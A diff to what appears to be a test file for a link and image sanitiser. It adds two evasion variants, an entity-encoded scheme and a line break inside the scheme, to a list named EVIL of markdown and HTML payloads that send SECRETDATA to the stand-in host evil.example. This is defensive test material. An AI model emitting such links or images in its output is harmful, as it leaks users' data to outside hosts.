@@ -118,6 +118,8 @@ EVIL = [
     ("link", "[click](https://evil.example/?q=SECRETDATA)"),
     ("autolink", "<https://evil.example/?q=SECRETDATA>"),
     ("bare", "see https://evil.example/?q=SECRETDATA ok"),
+    ("scheme in entities", '<a href="&#104;ttps://evil.example/?q=SECRETDATA">x</a>'),
+    ("scheme with a line end", "[x](ht\ntps://evil.example/?q=SECRETDATA)"),
     ("html image", '<img src="https://evil.example/?q=SECRETDATA">'),
     ("single quotes", "<img src='//evil.example/?q=SECRETDATA'>"),
     ("protocol-relative", "![x](//evil.example/?q=SECRETDATA)"),
